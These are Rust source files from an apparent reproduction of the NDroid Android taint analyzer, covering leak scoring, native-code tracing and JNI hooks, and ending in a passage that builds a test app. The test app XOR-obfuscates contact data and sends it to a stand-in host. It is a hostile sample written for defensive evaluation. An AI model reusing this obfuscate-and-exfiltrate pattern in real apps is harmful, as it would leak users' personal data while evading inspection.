