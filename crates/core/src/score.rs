//! Ground-truth scoring for analysis runs: confusion-matrix counts,
//! precision, recall and F1 per corpus family, aggregated over a
//! [`BatchReport`].
//!
//! μDep (and JuCify's benchmark evaluation) measure a taint analysis
//! by running it over inputs with *labeled* expected outcomes; this
//! module is that instrument for the reproduction. A batch of jobs —
//! each labeled `family/case` — is scored against a ground-truth
//! oracle (`label → expected leak?`): a job whose report flags a leak
//! where the truth says "leak" is a true positive, one that flags a
//! clean case is a false positive, and so on. Per-family cards make
//! regressions attributable ("the detour family lost recall"), and the
//! aggregate card is what CI pins to perfection.

use crate::batch::{BatchReport, JobOutcome};

/// One confusion matrix: the four counts plus derived rates.
///
/// The empty-denominator convention is the standard one for scored
/// corpora: a family with no positive ground truth has recall 1.0 (it
/// missed nothing), and an analysis that flags nothing has precision
/// 1.0 (it mislabeled nothing).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct ScoreCard {
    /// Expected leak, flagged — the analysis caught a real flow.
    pub true_positives: usize,
    /// Expected clean, flagged — a false alarm.
    pub false_positives: usize,
    /// Expected clean, not flagged.
    pub true_negatives: usize,
    /// Expected leak, not flagged — a missed flow.
    pub false_negatives: usize,
}

impl ScoreCard {
    /// Classifies one outcome into the matrix.
    pub fn record(&mut self, expected_leak: bool, flagged: bool) {
        match (expected_leak, flagged) {
            (true, true) => self.true_positives += 1,
            (false, true) => self.false_positives += 1,
            (false, false) => self.true_negatives += 1,
            (true, false) => self.false_negatives += 1,
        }
    }

    /// Adds another card's counts into this one.
    pub fn absorb(&mut self, other: &ScoreCard) {
        self.true_positives += other.true_positives;
        self.false_positives += other.false_positives;
        self.true_negatives += other.true_negatives;
        self.false_negatives += other.false_negatives;
    }

    /// Cases scored.
    pub fn total(&self) -> usize {
        self.true_positives + self.false_positives + self.true_negatives + self.false_negatives
    }

    /// TP / (TP + FP); 1.0 when nothing was flagged.
    pub fn precision(&self) -> f64 {
        let denom = self.true_positives + self.false_positives;
        if denom == 0 {
            1.0
        } else {
            self.true_positives as f64 / denom as f64
        }
    }

    /// TP / (TP + FN); 1.0 when nothing was expected to leak.
    pub fn recall(&self) -> f64 {
        let denom = self.true_positives + self.false_negatives;
        if denom == 0 {
            1.0
        } else {
            self.true_positives as f64 / denom as f64
        }
    }

    /// Harmonic mean of precision and recall; 0.0 when both are 0.
    pub fn f1(&self) -> f64 {
        let (p, r) = (self.precision(), self.recall());
        if p + r == 0.0 {
            0.0
        } else {
            2.0 * p * r / (p + r)
        }
    }

    /// No false positives and no false negatives.
    pub fn perfect(&self) -> bool {
        self.false_positives == 0 && self.false_negatives == 0
    }
}

/// One family's card, keyed by the label prefix before the first `/`.
#[derive(Debug, Clone, PartialEq)]
pub struct FamilyScore {
    /// Family name (e.g. `"detour"`, `"mutation"`, `"benign"`).
    pub family: String,
    /// The family's confusion matrix.
    pub card: ScoreCard,
}

/// The scored view of a batch: per-family cards (in first-appearance
/// order, so rendering is deterministic), the aggregate card, and any
/// jobs that could not be scored.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct ScoreReport {
    /// Per-family confusion matrices.
    pub families: Vec<FamilyScore>,
    /// All scored cases combined.
    pub aggregate: ScoreCard,
    /// Labels that failed/crashed, or that the truth oracle does not
    /// know. A non-empty list means the corpus was not fully scored —
    /// CI treats that as a failure, not silent truncation.
    pub unscored: Vec<String>,
}

impl ScoreReport {
    /// Looks up one family's card.
    pub fn family(&self, name: &str) -> Option<&ScoreCard> {
        self.families.iter().find(|f| f.family == name).map(|f| &f.card)
    }

    /// Every case scored, no false positives, no false negatives.
    pub fn perfect(&self) -> bool {
        self.unscored.is_empty() && self.aggregate.perfect()
    }

    /// Renders the scoring matrix as a fixed-width table (one row per
    /// family plus the aggregate), followed by unscored labels. Purely
    /// a function of the counts, so the string is golden-pinnable.
    pub fn render(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!(
            "{:<12} {:>4} {:>4} {:>4} {:>4} {:>4} {:>10} {:>7} {:>7}\n",
            "family", "n", "TP", "FP", "TN", "FN", "precision", "recall", "F1"
        ));
        let mut row = |name: &str, c: &ScoreCard| {
            out.push_str(&format!(
                "{:<12} {:>4} {:>4} {:>4} {:>4} {:>4} {:>10.3} {:>7.3} {:>7.3}\n",
                name,
                c.total(),
                c.true_positives,
                c.false_positives,
                c.true_negatives,
                c.false_negatives,
                c.precision(),
                c.recall(),
                c.f1(),
            ));
        };
        for f in &self.families {
            row(&f.family, &f.card);
        }
        row("aggregate", &self.aggregate);
        for label in &self.unscored {
            out.push_str(&format!("unscored: {label}\n"));
        }
        out
    }
}

/// The family component of a job label: everything before the first
/// `/`, or the whole label if it has none.
pub fn family_of(label: &str) -> &str {
    label.split('/').next().unwrap_or(label)
}

/// Scores a batch against a ground-truth oracle. `truth(label)` returns
/// the expected verdict for a job, or `None` if the label is unknown
/// (such jobs land in [`ScoreReport::unscored`], as do failed and
/// crashed jobs). A completed job counts as "flagged" when its
/// [`crate::RunReport::leaked`] is true.
pub fn score_batch(
    batch: &BatchReport,
    truth: impl Fn(&str) -> Option<bool>,
) -> ScoreReport {
    let mut report = ScoreReport::default();
    for result in &batch.results {
        let (Some(expected), JobOutcome::Completed(run)) =
            (truth(&result.label), &result.outcome)
        else {
            report.unscored.push(result.label.clone());
            continue;
        };
        let flagged = run.leaked();
        let family = family_of(&result.label);
        let card = match report.families.iter_mut().find(|f| f.family == family) {
            Some(f) => &mut f.card,
            None => {
                report.families.push(FamilyScore {
                    family: family.to_string(),
                    card: ScoreCard::default(),
                });
                &mut report.families.last_mut().unwrap().card
            }
        };
        card.record(expected, flagged);
        report.aggregate.record(expected, flagged);
    }
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::batch::JobResult;
    use crate::config::EngineKind;
    use crate::report::RunReport;
    use crate::system::Mode;
    use ndroid_dvm::interp::{LeakEvent, SinkContext};
    use ndroid_dvm::Taint;

    fn run(leaks: bool) -> RunReport {
        let sink_events = if leaks {
            vec![LeakEvent {
                sink: "send".into(),
                dest: "x".into(),
                data: "d".into(),
                taint: Taint::IMEI,
                context: SinkContext::Native,
            }]
        } else {
            Vec::new()
        };
        RunReport {
            mode: Mode::NDroid,
            engine: EngineKind::Optimized,
            sink_events,
            network_log: Vec::new(),
            violations: Vec::new(),
            stats: None,
            native_insns: 0,
            bytecodes: 0,
            provenance: None,
            provenance_store: None,
        }
    }

    fn batch(rows: &[(&str, Option<bool>)]) -> BatchReport {
        // `None` marks a failed job.
        BatchReport {
            results: rows
                .iter()
                .map(|(label, leaked)| JobResult {
                    label: label.to_string(),
                    outcome: match leaked {
                        Some(l) => JobOutcome::Completed(run(*l)),
                        None => JobOutcome::Failed("boom".into()),
                    },
                })
                .collect(),
        }
    }

    #[test]
    fn empty_denominators_score_as_perfect() {
        let c = ScoreCard::default();
        assert_eq!(c.precision(), 1.0);
        assert_eq!(c.recall(), 1.0);
        assert!(c.perfect());
        assert_eq!(c.f1(), 1.0);
    }

    #[test]
    fn confusion_matrix_classifies_all_four_ways() {
        let b = batch(&[
            ("fam/tp", Some(true)),
            ("fam/fp", Some(true)),
            ("fam/tn", Some(false)),
            ("fam/fn", Some(false)),
        ]);
        let truth = |label: &str| match label {
            "fam/tp" => Some(true),
            "fam/fp" => Some(false),
            "fam/tn" => Some(false),
            "fam/fn" => Some(true),
            _ => None,
        };
        let score = score_batch(&b, truth);
        let card = score.family("fam").unwrap();
        assert_eq!(
            (
                card.true_positives,
                card.false_positives,
                card.true_negatives,
                card.false_negatives
            ),
            (1, 1, 1, 1)
        );
        assert_eq!(card.precision(), 0.5);
        assert_eq!(card.recall(), 0.5);
        assert_eq!(card.f1(), 0.5);
        assert!(!score.perfect());
    }

    #[test]
    fn families_split_on_label_prefix_and_keep_order() {
        let b = batch(&[
            ("beta/a", Some(true)),
            ("alpha/a", Some(false)),
            ("beta/b", Some(true)),
        ]);
        let score = score_batch(&b, |_| Some(true));
        let names: Vec<&str> = score.families.iter().map(|f| f.family.as_str()).collect();
        assert_eq!(names, ["beta", "alpha"], "first-appearance order");
        assert_eq!(score.family("beta").unwrap().total(), 2);
        assert_eq!(score.aggregate.total(), 3);
        // alpha/a was expected to leak but stayed clean.
        assert_eq!(score.aggregate.false_negatives, 1);
    }

    #[test]
    fn failed_and_unknown_jobs_are_unscored_not_dropped() {
        let b = batch(&[("fam/ok", Some(true)), ("fam/err", None), ("???", Some(true))]);
        let truth = |label: &str| (label != "???").then_some(true);
        let score = score_batch(&b, truth);
        assert_eq!(score.aggregate.total(), 1);
        assert_eq!(score.unscored, ["fam/err", "???"]);
        assert!(!score.perfect(), "unscored jobs forbid perfection");
    }

    #[test]
    fn render_is_deterministic_and_carries_all_counts() {
        let b = batch(&[("fam/a", Some(true)), ("fam/b", Some(false))]);
        let score = score_batch(&b, |_| Some(true));
        let text = score.render();
        assert!(text.contains("fam"));
        assert!(text.contains("aggregate"));
        assert_eq!(text, score.render());
    }
}
