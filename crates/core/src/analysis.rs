//! [`NDroidAnalysis`]: the full NDroid analysis plugged into the
//! emulator — DVM hook engine callbacks, the instruction tracer, and
//! the multilevel-hooking bookkeeping.

use crate::config::SourcePolicyOverride;
use crate::source_policy::{SourcePolicy, SourcePolicyMap};
use crate::tracer::{apply_taint_op, propagate, HandlerCache};
use ndroid_arm::block::Block;
use ndroid_arm::exec::{step_decoded, Effect};
use ndroid_arm::{Cpu, Memory};
use ndroid_dvm::{Dvm, MethodId, Taint};
use ndroid_emu::layout::in_native_code;
use ndroid_emu::multilevel::MultilevelHook;
use ndroid_emu::runtime::Analysis;
use ndroid_emu::shadow::ShadowState;
use ndroid_emu::trace::TraceLog;
use ndroid_jni::calls::{parse_call_name, ArgForm};
use ndroid_jni::{dvm_addr, jni_names};
use ndroid_provenance::{Handle, ProvEvent};
use std::collections::HashMap;
use std::rc::Rc;

/// Aggregate statistics of one analysis run.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct AnalysisStats {
    /// Guest instructions observed by the tracer.
    pub insns_traced: u64,
    /// Instructions skipped by the hot-handler cache.
    pub insns_skipped: u64,
    /// Branch events processed.
    pub branch_events: u64,
    /// Multilevel chains activated (T1 satisfied).
    pub chains_activated: u64,
    /// Deep-hook instrumentations performed (T2+ satisfied).
    pub deep_hooks: u64,
    /// Deep-hook instrumentations that unconditional hooking would have
    /// performed (the cost multilevel hooking avoids; ablation D1).
    pub unconditional_hooks: u64,
    /// JNI entries processed (dvmCallJNIMethod hooks).
    pub jni_entries: u64,
    /// SourcePolicies created (tainted-parameter entries only).
    pub source_policies: u64,
    /// Superblock dispatches served from the block cache.
    pub block_hits: u64,
    /// Block-cache lookups that missed (cold or stale page).
    pub block_misses: u64,
    /// Block-cache pages dropped because the code bytes changed.
    pub block_invalidations: u64,
    /// Effect programs compiled (blocks built).
    pub blocks_built: u64,
}

/// A guest-integrity violation: third-party native code wrote into a
/// region the VM owns (the §VII extension — "NDroid can be easily
/// extended to protect taints and prevent evasions through stack
/// manipulation or trusted function modification, because it monitors
/// the memory … and inspects every native instruction").
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProtectionViolation {
    /// Address of the offending store instruction.
    pub pc: u32,
    /// The address written.
    pub addr: u32,
    /// Which protected region was hit.
    pub region: &'static str,
}

/// Classifies an address against the VM-private regions the taint
/// protector guards.
pub(crate) fn protected_region(addr: u32) -> Option<&'static str> {
    use ndroid_dvm::heap::HEAP_BASE;
    use ndroid_dvm::stack::STACK_BASE;
    if (STACK_BASE..STACK_BASE + 0x0010_0000).contains(&addr) {
        Some("dvm-stack")
    } else if (HEAP_BASE..HEAP_BASE + 0x0200_0000).contains(&addr) {
        Some("dvm-heap")
    } else if (ndroid_emu::layout::LIBDVM_BASE..ndroid_emu::layout::LIBDVM_BASE + 0x0100_0000)
        .contains(&addr)
    {
        Some("libdvm-text")
    } else {
        None
    }
}

/// The NDroid analysis: instruction tracer + DVM hook engine +
/// multilevel hooking, over the shared shadow taint state.
#[derive(Clone)]
pub struct NDroidAnalysis {
    policies: SourcePolicyMap,
    cache: HandlerCache,
    /// Whether the hot-handler cache is consulted (ablation D5).
    pub use_cache: bool,
    /// Whether multilevel gating is applied (ablation D1; when false,
    /// every inner-function entry counts as instrumented).
    pub gate_hooks: bool,
    /// Whether the §VII taint-protection extension is active: native
    /// stores into VM-private regions are recorded as violations.
    pub protect_taints: bool,
    /// Overrides the §V-B source-policy installation rule (set from
    /// [`crate::SystemConfig::source_policies`]).
    pub policy_override: SourcePolicyOverride,
    /// Violations recorded by the taint protector.
    pub violations: Vec<ProtectionViolation>,
    // Fixed at construction (pure functions of the Table-III name
    // tables), `Rc`-shared so cloning an analysis for a snapshot fork
    // costs a refcount bump instead of rebuilding ~250 chain vectors.
    chain_specs: Rc<HashMap<u32, Vec<u32>>>,
    inner_addrs: Rc<Vec<u32>>,
    active: Vec<MultilevelHook>,
    /// Run statistics.
    pub stats: AnalysisStats,
    block: BlockAcc,
}

/// Accumulator for one basic-block run of native taint writes — the
/// µDep-style summarization: provenance records one event per run
/// (flushed at branch events and JNI returns), never one event per
/// instruction. Only populated at `Level::Full`.
#[derive(Debug, Default, Clone)]
struct BlockAcc {
    start_pc: u32,
    insns: u32,
    label: u32,
}

impl Default for NDroidAnalysis {
    fn default() -> NDroidAnalysis {
        NDroidAnalysis::new()
    }
}

impl std::fmt::Debug for NDroidAnalysis {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("NDroidAnalysis")
            .field("stats", &self.stats)
            .field("use_cache", &self.use_cache)
            .field("gate_hooks", &self.gate_hooks)
            .finish()
    }
}

impl NDroidAnalysis {
    /// A fresh analysis with multilevel chains for every JNI-exit,
    /// object-creation and exception function.
    pub fn new() -> NDroidAnalysis {
        let mut chain_specs = HashMap::new();
        for name in jni_names() {
            if let Some((_, form)) = parse_call_name(name) {
                let bridge = match form {
                    ArgForm::Varargs => dvm_addr("dvmCallMethod"),
                    ArgForm::VaList => dvm_addr("dvmCallMethodV"),
                    ArgForm::JvalueArray => dvm_addr("dvmCallMethodA"),
                };
                chain_specs.insert(
                    dvm_addr(name),
                    vec![dvm_addr(name), bridge, dvm_addr("dvmInterpret")],
                );
            }
        }
        // Object creation: NOF → MAF pairs of Table III.
        for (nof, maf) in [
            ("NewObject", "dvmAllocObject"),
            ("NewObjectV", "dvmAllocObject"),
            ("NewObjectA", "dvmAllocObject"),
            ("NewString", "dvmCreateStringFromUnicode"),
            ("NewStringUTF", "dvmCreateStringFromCstr"),
            ("NewObjectArray", "dvmAllocArrayByClass"),
            ("NewBooleanArray", "dvmAllocPrimitiveArray"),
            ("NewByteArray", "dvmAllocPrimitiveArray"),
            ("NewCharArray", "dvmAllocPrimitiveArray"),
            ("NewShortArray", "dvmAllocPrimitiveArray"),
            ("NewIntArray", "dvmAllocPrimitiveArray"),
            ("NewLongArray", "dvmAllocPrimitiveArray"),
            ("NewFloatArray", "dvmAllocPrimitiveArray"),
            ("NewDoubleArray", "dvmAllocPrimitiveArray"),
        ] {
            chain_specs.insert(dvm_addr(nof), vec![dvm_addr(nof), dvm_addr(maf)]);
        }
        // Exception: ThrowNew → initException → dvmCallMethod.
        chain_specs.insert(
            dvm_addr("ThrowNew"),
            vec![
                dvm_addr("ThrowNew"),
                dvm_addr("initException"),
                dvm_addr("dvmCallMethod"),
            ],
        );
        let inner_addrs: Vec<u32> = [
            "dvmCallMethod",
            "dvmCallMethodV",
            "dvmCallMethodA",
            "dvmInterpret",
            "dvmAllocObject",
            "dvmCreateStringFromUnicode",
            "dvmCreateStringFromCstr",
            "dvmAllocArrayByClass",
            "dvmAllocPrimitiveArray",
            "initException",
        ]
        .iter()
        .map(|n| dvm_addr(n))
        .collect();
        NDroidAnalysis {
            policies: SourcePolicyMap::new(),
            cache: HandlerCache::new(),
            use_cache: true,
            gate_hooks: true,
            protect_taints: true,
            policy_override: SourcePolicyOverride::AsPaper,
            violations: Vec::new(),
            chain_specs: Rc::new(chain_specs),
            inner_addrs: Rc::new(inner_addrs),
            active: Vec::new(),
            stats: AnalysisStats::default(),
            block: BlockAcc::default(),
        }
    }

    /// Declares the handler cache's contents valid for the memory
    /// lineage identified by `epoch` **without clearing them** — used
    /// only by snapshot forks, which carry the memory image and this
    /// cache as one unit, so the cached page generations still match
    /// the forked pages byte-for-byte and the cache stays warm (and
    /// its hit/miss counters replay-identical to a fresh run).
    pub fn rebind_cache_epoch(&mut self, epoch: u64) {
        self.cache.rebind_epoch(epoch);
    }

    /// The source-policy map (for inspection in tests/benches).
    pub fn policies(&self) -> &SourcePolicyMap {
        &self.policies
    }

    /// Folds one instruction's written-taint union into the current
    /// basic-block run. Clean writes and non-`Full` levels are
    /// rejected up front, so this is two predictable branches on the
    /// hot path.
    #[inline]
    pub(crate) fn note_written(&mut self, prov: &Handle, pc: u32, written: Taint) {
        if !prov.is_full() || !written.is_tainted() {
            return;
        }
        if self.block.insns == 0 {
            self.block.start_pc = pc;
        }
        self.block.insns += 1;
        self.block.label |= written.0;
    }

    /// Emits the pending [`ProvEvent::NativeBlock`] (if any). Called
    /// at every branch event and at JNI return, ending the current
    /// basic-block run.
    #[inline]
    pub(crate) fn flush_block(&mut self, prov: &Handle) {
        if self.block.insns == 0 {
            return;
        }
        prov.emit(ProvEvent::NativeBlock {
            start_pc: self.block.start_pc,
            insns: self.block.insns,
            label: self.block.label,
        });
        self.block = BlockAcc::default();
    }
}

impl Analysis for NDroidAnalysis {
    fn tracks_native(&self) -> bool {
        true
    }

    fn on_insn(&mut self, shadow: &mut ShadowState, cpu: &Cpu, mem: &Memory, effect: &Effect) {
        // The paper's tracer pays a real per-instruction decode: "It
        // takes time to decide each instruction because there are 148
        // ARM instructions and 73 Thumb instructions and each
        // instruction does not have fixed bits to denote the opcode. To
        // speed up the identification of the instruction type and the
        // search of the handler, NDroid caches hot instructions and the
        // corresponding handlers" (§V-C). We reproduce both: the
        // analysis re-identifies the instruction from raw guest memory
        // (it does not trust the translation layer), and the hot-handler
        // cache skips that identification for already-seen PCs.
        let relevant = match if self.use_cache {
            self.cache.lookup(mem, effect.pc, cpu.thumb)
        } else {
            None
        } {
            Some(relevant) => relevant,
            None => {
                // Independent instruction identification.
                let relevant = if cpu.thumb {
                    crate::tracer::HandlerCache::classify(&effect.instr)
                } else {
                    let word = mem.read_u32(effect.pc);
                    match ndroid_arm::decode::decode_arm(word, effect.pc) {
                        Ok(instr) => crate::tracer::HandlerCache::classify(&instr),
                        Err(_) => false,
                    }
                };
                if self.use_cache {
                    self.cache.insert(mem, effect.pc, cpu.thumb, relevant);
                }
                relevant
            }
        };
        if !relevant {
            self.stats.insns_skipped += 1;
            return;
        }
        self.stats.insns_traced += 1;
        // §VII extension: flag native stores into VM-private regions
        // (stack manipulation / trusted-function modification attacks).
        if self.protect_taints && effect.executed {
            let is_store = matches!(
                effect.instr,
                ndroid_arm::insn::Instr::Mem { load: false, .. }
                    | ndroid_arm::insn::Instr::MemMulti { load: false, .. }
                    | ndroid_arm::insn::Instr::VfpMem { load: false, .. }
            );
            if is_store {
                if let Some(addr) = effect.addr {
                    if let Some(region) = protected_region(addr) {
                        self.violations.push(ProtectionViolation {
                            pc: effect.pc,
                            addr,
                            region,
                        });
                    }
                }
            }
        }
        let written = propagate(shadow, effect);
        self.note_written(&shadow.prov, effect.pc, written);
    }

    fn on_block(
        &mut self,
        shadow: &mut ShadowState,
        cpu: &mut Cpu,
        mem: &mut Memory,
        block: &Block,
        budget: &mut u64,
    ) -> Result<(), ndroid_emu::EmuError> {
        for step in block.steps() {
            if *budget == 0 {
                return Err(ndroid_emu::EmuError::Timeout { budget: 0 });
            }
            *budget -= 1;
            let effect = step_decoded(cpu, mem, step.instr, step.size)?;
            // An executed store overlapping the block's own code page:
            // the stepper-mode tracer re-identifies instruction bytes
            // from guest memory *after* execution, so a self-overwrite
            // must be classified from the freshly written word.
            // Delegate this one step to `on_insn` verbatim, then
            // abandon the block — its remaining pre-compiled steps can
            // no longer be trusted.
            let own_page_store = step.store_bytes != 0
                && effect.executed
                && effect
                    .addr
                    .map_or(false, |a| block.store_hits_code(a, step.store_bytes));
            if own_page_store {
                self.on_insn(shadow, cpu, mem, &effect);
                if let Some(b) = effect.branch {
                    self.on_branch(shadow, b.from, b.to);
                }
                return Ok(());
            }
            // Fused fast path: classification and taint semantics were
            // pre-compiled into the block's effect program, so neither
            // the per-PC handler cache nor the Table V dispatch runs.
            if !step.relevant {
                self.stats.insns_skipped += 1;
            } else {
                self.stats.insns_traced += 1;
                if self.protect_taints && effect.executed && step.is_store {
                    if let Some(addr) = effect.addr {
                        if let Some(region) = protected_region(addr) {
                            self.violations.push(ProtectionViolation {
                                pc: effect.pc,
                                addr,
                                region,
                            });
                        }
                    }
                }
                if effect.executed {
                    let written = apply_taint_op(shadow, &step.taint, &effect);
                    self.note_written(&shadow.prov, effect.pc, written);
                }
            }
            if let Some(b) = effect.branch {
                self.on_branch(shadow, b.from, b.to);
                return Ok(());
            }
        }
        Ok(())
    }

    fn on_branch(&mut self, shadow: &mut ShadowState, from: u32, to: u32) {
        self.flush_block(&shadow.prov);
        self.stats.branch_events += 1;
        // Unconditional-hooking counterfactual (ablation D1).
        if self.inner_addrs.contains(&to) {
            self.stats.unconditional_hooks += 1;
        }
        // Feed active chains; prune finished ones.
        let mut i = 0;
        while i < self.active.len() {
            if let Some(level) = self.active[i].on_branch(from, to) {
                if level > 0 {
                    self.stats.deep_hooks += 1;
                }
            }
            if self.active[i].depth() == 0 {
                self.active.swap_remove(i);
            } else {
                i += 1;
            }
        }
        // Activate a new chain when third-party native code enters an
        // outer JNI function (condition T1).
        if self.gate_hooks && in_native_code(from) {
            if let Some(spec) = self.chain_specs.get(&to) {
                let mut hook = MultilevelHook::new(spec.clone(), in_native_code);
                if hook.on_branch(from, to).is_some() {
                    self.stats.chains_activated += 1;
                    self.active.push(hook);
                }
            }
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn on_jni_entry(
        &mut self,
        dvm: &mut Dvm,
        shadow: &mut ShadowState,
        trace: &mut TraceLog,
        method: MethodId,
        entry: u32,
        args: &[u32],
        taints: &[Taint],
        stack_args_base: u32,
    ) {
        self.stats.jni_entries += 1;
        let def = dvm.program.method(method);
        let class_name = dvm.program.class(dvm.program.method_class(method)).name.clone();
        let shorty = def.shorty.clone();
        let access = def.access_flags();
        let mut kinds: Vec<char> = Vec::with_capacity(args.len());
        if !def.is_static {
            kinds.push('L');
        }
        kinds.extend(shorty.chars().skip(1));

        trace.push("jni-entry", format!("name: {}", def.name));
        trace.push("jni-entry", format!("class: {class_name}"));
        trace.push("jni-entry", format!("shorty: {shorty}"));
        trace.push("jni-entry", format!("insnAddr: {entry:x}"));
        for (i, (value, taint)) in args.iter().zip(taints.iter()).enumerate() {
            if taint.is_tainted() {
                let kind = kinds.get(i).copied().unwrap_or('I');
                trace.push(
                    "jni-entry",
                    format!("args[{i}]@{value:#x} {kind} taint: {taint}"),
                );
            }
        }

        // Fresh native frame: shadow registers start clear, then the
        // SourcePolicy handler initializes them.
        shadow.clear_regs();
        let policy = SourcePolicy::from_call(entry, &shorty, access, args, taints, &kinds);
        let tainted = policy.any_tainted();
        let install = match self.policy_override {
            SourcePolicyOverride::AsPaper => tainted,
            SourcePolicyOverride::Always => true,
            SourcePolicyOverride::Never => false,
        };
        if !install {
            return;
        }
        if tainted {
            self.stats.source_policies += 1;
            trace.push(
                "source-policy",
                format!("Find a source function @{entry:#x} SourceHandler"),
            );
            for (i, t) in policy.t_regs.iter().enumerate() {
                if t.is_tainted() {
                    trace.push("source-policy", format!("t(r{i}) := {t}"));
                }
            }
            for (r, t) in &policy.object_args {
                trace.push("source-policy", format!("t({:x}) := {}", r.0, t.0));
            }
            policy.apply(shadow, stack_args_base);
        }
        self.policies.insert(policy);
    }

    fn on_jni_return(
        &mut self,
        _dvm: &mut Dvm,
        shadow: &ShadowState,
        trace: &mut TraceLog,
        method: MethodId,
        ret: u32,
    ) -> Taint {
        self.flush_block(&shadow.prov);
        let t = shadow.regs[0];
        if t.is_tainted() {
            trace.push(
                "jni-return",
                format!("method {} returned {ret:#x} with native taint {t}", method.0),
            );
        }
        // Shadow R0 is already unioned in by the bridge; nothing extra.
        Taint::CLEAR
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn chains_cover_call_family_and_creation() {
        let a = NDroidAnalysis::new();
        assert!(a.chain_specs.contains_key(&dvm_addr("CallVoidMethodA")));
        assert!(a.chain_specs.contains_key(&dvm_addr("CallStaticIntMethodV")));
        assert!(a.chain_specs.contains_key(&dvm_addr("NewStringUTF")));
        assert!(a.chain_specs.contains_key(&dvm_addr("ThrowNew")));
        assert_eq!(
            a.chain_specs[&dvm_addr("CallVoidMethodA")],
            vec![
                dvm_addr("CallVoidMethodA"),
                dvm_addr("dvmCallMethodA"),
                dvm_addr("dvmInterpret")
            ]
        );
    }

    #[test]
    fn branch_events_activate_and_gate() {
        let mut a = NDroidAnalysis::new();
        let mut sh = ShadowState::new();
        let outer = dvm_addr("CallVoidMethodA");
        let bridge = dvm_addr("dvmCallMethodA");
        let interp = dvm_addr("dvmInterpret");
        // From native code: chain activates and deep hooks fire.
        a.on_branch(&mut sh, 0x1000_0040, outer);
        assert_eq!(a.stats.chains_activated, 1);
        a.on_branch(&mut sh, outer + 0x10, bridge);
        a.on_branch(&mut sh, bridge + 0x20, interp);
        assert_eq!(a.stats.deep_hooks, 2);
        // Unwind.
        a.on_branch(&mut sh, interp + 4, bridge + 0x24);
        a.on_branch(&mut sh, bridge + 4, outer + 0x14);
        a.on_branch(&mut sh, outer + 4, 0x1000_0044);
        assert!(a.active.is_empty());

        // From framework code: no activation, but the unconditional
        // counterfactual still counts the inner entry.
        let before = a.stats.unconditional_hooks;
        a.on_branch(&mut sh, 0x7000_0000, outer);
        a.on_branch(&mut sh, outer + 0x10, bridge);
        assert_eq!(a.stats.chains_activated, 1, "not re-activated");
        assert_eq!(a.stats.unconditional_hooks, before + 1);
    }

    #[test]
    fn tracer_skips_branches_and_caches_classification() {
        use ndroid_arm::cond::Cond;
        use ndroid_arm::encode::encode;
        use ndroid_arm::insn::{DpOp, Instr, Op2};
        use ndroid_arm::reg::Reg;
        let mut a = NDroidAnalysis::new();
        let mut sh = ShadowState::new();
        let cpu = Cpu::new();
        let mut mem = Memory::new();
        let branch = Instr::Branch {
            cond: Cond::Al,
            link: false,
            offset: 0,
        };
        let add = Instr::Dp {
            cond: Cond::Al,
            op: DpOp::Add,
            s: false,
            rd: Reg::R0,
            rn: Reg::R1,
            op2: Op2::reg(Reg::R2),
        };
        mem.write_u32(0x1000_0000, encode(&branch).unwrap());
        mem.write_u32(0x1000_0004, encode(&add).unwrap());
        let eff = |instr: Instr, pc: u32| Effect {
            instr,
            pc,
            size: 4,
            executed: true,
            branch: None,
            addr: None,
            svc: None,
        };
        // Branch: identified once, then served from the hot cache.
        a.on_insn(&mut sh, &cpu, &mem, &eff(branch, 0x1000_0000));
        a.on_insn(&mut sh, &cpu, &mem, &eff(branch, 0x1000_0000));
        assert_eq!(a.stats.insns_skipped, 2, "branches never propagate");
        assert_eq!(a.cache.hits, 1);
        assert_eq!(a.cache.misses, 1);
        // ADD: identified, classified relevant, propagated.
        a.on_insn(&mut sh, &cpu, &mem, &eff(add, 0x1000_0004));
        assert_eq!(a.stats.insns_traced, 1);
        // With the cache disabled every instruction re-identifies.
        a.use_cache = false;
        a.on_insn(&mut sh, &cpu, &mem, &eff(add, 0x1000_0004));
        assert_eq!(a.stats.insns_traced, 2);
        assert_eq!(a.cache.hits, 1, "cache untouched when disabled");
    }
}
