//! A Communication-category app in the style §III-A observed: "apps in
//! the category of 'Communication' often employ native code to hide
//! communication protocols or encrypt data."
//!
//! The native code XOR-"encrypts" the contact record before sending —
//! useless against dynamic taint analysis: explicit dataflow through
//! the cipher keeps the label (each output byte is EOR of a tainted
//! byte, Table V's binary-op rule), so NDroid flags the ciphertext at
//! the socket even though no plaintext ever reaches the sink.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::{Cond, Reg};
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Builds the protocol-hiding messenger app.
pub fn crypto_hider() -> App {
    let mut b = AppBuilder::new(
        "secure-messenger",
        "native XOR 'encryption' before exfiltration (Communication category)",
    );
    let c = b.class("Lcom/messenger/Crypto;");
    let dest = b.data_cstr("relay.messenger.example");
    let cipher_buf = b.data_buffer(128);

    // void sendEncrypted(String plaintext)
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0); // plaintext
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R7, Reg::R0); // len
    // XOR cipher: out[i] = in[i] ^ 0x5A (a "protocol obfuscation").
    b.asm.ldr_const(Reg::R5, cipher_buf);
    b.asm.mov_imm(Reg::R6, 0).unwrap(); // i
    let top = b.asm.here_label();
    b.asm.cmp(Reg::R6, Reg::R7);
    let done = b.asm.label();
    b.asm.b_cond(Cond::Eq, done);
    b.asm.ldrb_reg(Reg::R0, Reg::R4, Reg::R6);
    b.asm.eor_imm(Reg::R0, Reg::R0, 0x5A).unwrap();
    b.asm.strb_reg(Reg::R0, Reg::R5, Reg::R6);
